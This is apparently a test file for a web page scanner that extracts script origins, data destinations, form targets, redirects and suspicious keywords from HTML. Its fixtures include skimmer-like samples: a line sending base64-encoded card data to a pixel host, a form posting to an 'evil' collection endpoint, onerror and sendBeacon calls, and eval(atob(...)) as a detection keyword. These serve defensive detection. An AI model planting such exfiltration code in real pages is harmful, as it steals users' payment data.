import { expect, it } from 'vitest'
import { htmlParser } from '../html.ts'
import { feed } from '../slices.ts'
import { ignoredElements, isSelector } from './ignored.ts'
import { type PageFacts, PageReader } from './page-reader.ts'

const { signal } = new AbortController()

async function read(html: string, more: { keywords?: string[]; selectors?: string[] } = {}): Promise<PageFacts> {
  const ignored = await ignoredElements(html, { selectors: more.selectors ?? [], signal })
  const reader = new PageReader({
    url: new URL('https://shop.example.com/a/b'),
    keywords: more.keywords ?? [],
    ignored,
  })
  await feed({ parser: htmlParser(reader.events), text: html, signal })
  for (const inner of reader.inside) await feed({ parser: htmlParser(reader.events), text: inner, signal })
  return reader.facts()
}

it('finds the origins of scripts', async () => {
  const facts = await read(`
    <script src="/app.js#x"></script><script src=//cdn.example.net/lib.js?v=1></script>
    <link rel="modulepreload" href="https://mods.example.net/m.js"><link rel=preload as=script href=https://pre.example.net/p.js>
    <script type="importmap">{"imports":{"vue":"https://esm.example.net/vue.js"}}</script>
    <script type="application/ld+json">{"@context":"https://schema.org/x.js"}</script>
    <script>var s = document.createElement('script'); s.src = 'https:\\/\\/tags.example.net/t.js?id=' + id</script>
    <script type=module>import x from "https://imported.example.net/x.js"; await import('https://dynamic.example.net/y.mjs')</script>
    <script src="data:text/javascript,alert(1)"></script>`)
  expect(facts.scriptOrigins).toEqual([
    'data:',
    'https://cdn.example.net',
    'https://dynamic.example.net',
    'https://esm.example.net',
    'https://imported.example.net',
    'https://mods.example.net',
    'https://pre.example.net',
    'https://shop.example.com',
    'https://tags.example.net',
  ])
  expect(facts.scripts).toContain('https://cdn.example.net/lib.js?v=1')
  expect(facts.scripts).toContain('https://shop.example.com/app.js')
})

it('finds the destinations of data', async () => {
  const facts = await read(`
    <link rel="preconnect" href="https://api.example.net"><a ping="https://ping.example.net/x" href="/y">y</a>
    <img onerror="fetch('https://handler.example.net/')" src=x><a href="javascript:navigator.sendBeacon('https://beacon.example.net/')">z</a>
    <script>
      fetch( "https://fetch.example.net/a" ); x.open('POST', 'https://xhr.example.net/b'); new WebSocket('wss://ws.example.net/c')
      new Image().src = 'https://pixel.example.net/p?d=' + btoa(card); const docs = "https://not-used.example.net/"
    </script>`)
  expect(facts.connects).toEqual([
    'https://api.example.net',
    'https://beacon.example.net',
    'https://fetch.example.net',
    'https://handler.example.net',
    'https://ping.example.net',
    'https://pixel.example.net',
    'https://xhr.example.net',
    'wss://ws.example.net',
  ])
})

it('finds forms, frames, links and redirects', async () => {
  const facts = await read(`
    <meta http-equiv="refresh" content="5; URL='https://elsewhere.example.net/start?x=1'"><base href="https://base.example.net/">
    <form action="pay"></form><form action="https://evil.example.net/collect"><button formaction="//other.example.net/"></button></form>
    <script>document.forms[0].action = "https://scripted.example.net/"; location.href = 'https://led.example.net/x'; location.replace("/own")</script>
    <iframe src="https://frame.example.net/w"></iframe><object data="https://object.example.net/"></object><iframe src="about:blank"></iframe>
    <a href="https://www.linked.co.uk/x">x</a><a href="https://shop.example.com/y">y</a><a href="mailto:a@b.example">m</a>
    <a href="https://ann.github.io/">g</a>`)
  expect(facts).toMatchObject({
    forms: [
      'https://base.example.net',
      'https://evil.example.net',
      'https://other.example.net',
      'https://scripted.example.net',
    ],
    frames: ['https://frame.example.net', 'https://object.example.net'],
    links: ['ann.github.io', 'linked.co.uk'],
    redirects: ['https://elsewhere.example.net/start', 'https://led.example.net/x'],
  })
})

it('reads inlined pages', async () => {
  const facts = await read(`<iframe srcdoc="<script src='https://inner.example.net/i.js'></script>"></iframe>`)
  expect(facts.scriptOrigins).toEqual(['https://inner.example.net'])
})

it('reads the visible text', async () => {
  const html = (more: string): string =>
    `<title>Shop</title><style>p { color: red }</style><p>W<b>elc</b>ome</p><p>here</p>${more}`
  const plain = (await read(html(''))).text
  expect(plain.words).toBe(3)
  expect((await read(html('<script>var a = 1</script><template>hidden</template><!-- note -->'))).text).toEqual(plain)
})

it('finds keywords whatever their case and spacing, and not inside other words', async () => {
  const { keywords } = await read('<h1>HACKED</h1> <b>by</b> x. Shacked bygone. <p>Виагра здесь</p>', {
    keywords: ['виагра', 'shack', 'gone'],
  })
  expect(keywords).toEqual(['hacked by', 'виагра'])
  expect((await read('<script>eval(atob("YWxlcnQ="))</script>')).keywords).toEqual(['eval(atob('])
})

it('ignores elements that match a selector, with their content', async () => {
  const html = `<p>stays</p><div class=ad><p>goes</p><script src=https://ads.example.net/a.js></script><iframe src=https://ads.example.net></iframe></div><p>too</p>`
  const facts = await read(html, { selectors: ['#none, div.ad'] })
  expect(facts).toMatchObject({ scripts: [], frames: [] })
  expect(facts.text).toEqual((await read('<p>stays</p><div></div><p>too</p>')).text)
})

it.each([
  ['ul > li:nth-child(2)', 3],
  ['li:not(.keep):has(> b)', 3],
  ['h1 ~ p', 3],
  ['p:empty', 4],
  ['p:not(:empty)', 3],
  ['[DATA-x^="a"]', 3],
  ['body li', 4],
])('supports the selector %s', async (selector, words) => {
  const html = `<h1>one</h1><ul><li class=keep>two</li><li data-x=ab><b>three</b></li></ul><p></p><p>four</p>`
  expect((await read(html, { selectors: [selector] })).text.words).toBe(words)
})

it('rejects selectors that are too slow, and those that cannot match a delivered page', async () => {
  const deep = '<div>'.repeat(500)
  await expect(read(deep, { selectors: [`p ${'div '.repeat(40)}`] })).rejects.toThrow(
    'not checked: the ignoreSelectors take too long on this page; simplify them',
  )
  expect(isSelector('p::before')).toBe(false)
})

it('detects a page that is nested too deeply', async () => {
  const reader = new PageReader({ url: new URL('https://a.example/'), keywords: [], ignored: new Set() })
  await feed({ parser: htmlParser(reader.events), text: '<b>'.repeat(600), signal })
  expect(reader.isTooDeep).toBe(true)
})

it('finds the calls of scripts, whatever their data', async () => {
  const script = (data: string): string =>
    `<script>window.state = ${data}; track12("a(b)", it's)</script><script>go()</script>`
  const { calls } = await read(script('{"a(": 1}'))
  expect(calls).toEqual(['go', 'track'])
  expect((await read(script('{"other": [1, 2, "x()"]}'))).calls).toEqual(calls)
})

it('finds links in any notation, and however many have the same host', async () => {
  const links = [
    '/\t/tab.example.org/',
    '//slashes.example.org',
    '/\\back.example.net/x',
    ' https://space.example.info/',
  ]
  const login = [
    'https://shop.example.com@login.example.de/',
    'HTTPS://UPPER.example.fr?a',
    'https://a.upper.example.fr/b',
  ]
  const html = [...links, ...login, '/own', '/own', 'mailto:a@mail.example.at', 'https://shop.example.com/'].map(
    (href) => `<a href="${href}">there</a>`,
  )
  const based = `${html.join('')}<base href="https://base.example.es/"><a href="/own">there</a>`
  expect((await read(based)).links).toEqual(
    ['de', 'es', 'fr', 'info', 'net', 'org'].map((suffix) => `example.${suffix}`),
  )
})
